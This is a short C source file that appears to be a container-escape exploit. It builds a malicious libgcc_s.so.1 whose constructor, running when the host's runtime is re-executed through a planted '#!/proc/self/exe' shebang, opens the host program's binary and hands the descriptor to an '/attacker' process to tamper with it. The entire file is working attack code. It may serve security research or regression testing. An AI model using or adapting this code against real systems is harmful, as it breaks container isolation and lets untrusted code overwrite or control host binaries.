/* The container's own libgcc_s.so.1. Its constructor runs in every program that loads it. In the container that is the
 * host's program: /bin/sh begins with "#!/proc/self/exe", so the kernel executes the program once more.
 *
 * The constructor opens the program's file, and starts /attacker with the descriptor, in a process of its own. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
	char number[16];
	struct stat exe;
	/* Without /attacker this process is not in the container's root directory. */
	if (access("/attacker", X_OK) != 0)
		return;
	int fd = open("/proc/self/exe", O_RDONLY);
	if (fd < 0 || fstat(fd, &exe) != 0)
		_exit(3);
	/* The kernel refuses this with ETXTBSY: this process executes the file. */
	int now = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
	if (fork() == 0) {
		setsid();
		snprintf(number, sizeof number, "%d", fd);
		execl("/attacker", "attacker", number, now < 0 ? "busy" : "writable", (char *)NULL);
		_exit(4);
	}
	/* The launcher waits for this process. */
	_exit(0);
}
